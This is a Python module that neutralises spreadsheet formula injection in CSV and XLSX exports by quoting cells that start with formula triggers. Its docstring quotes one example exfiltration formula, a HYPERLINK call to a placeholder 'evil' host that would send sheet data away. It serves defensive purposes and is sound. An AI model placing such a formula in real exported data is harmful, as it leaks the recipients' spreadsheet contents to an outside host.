"""Text for spreadsheet cells that a spreadsheet program will not run.

A cell whose text starts with `=`, `+`, `-` or `@` (or a tab or carriage return, or spaces
before them; or the full-width forms some programs also read) is taken as a formula by
Excel, LibreOffice and Google Sheets when a CSV file is opened, and openpyxl writes such a
string into an XLSX file as a live formula. Descriptions and notes come from the ERP and from
buyers, and the file is opened by the supplier: `=HYPERLINK("http://evil/?"&A1)` would send
the sheet's data away. Every export writes its text through `for_csv` or `to_xlsx_cell`:

- CSV: the text gets a leading apostrophe (the OWASP recommendation): shown, never run.
- XLSX: the cell is a plain string with Excel's "quote prefix" style, so it is text even when
  the user edits it, and shows without the apostrophe.

Numbers and dates are not text and stay what they are.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import Cell

# The full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20) are written as escapes.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def is_formula_like(value: str) -> bool:
    return value.startswith(TRIGGERS) or value.lstrip(" \t\r\n").startswith(TRIGGERS)


def for_csv(value: Any) -> Any:
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def to_xlsx_cell(cell: Cell) -> None:
    """Make a cell that openpyxl would write as a formula a plain, quoted string."""
    if isinstance(cell.value, str) and is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
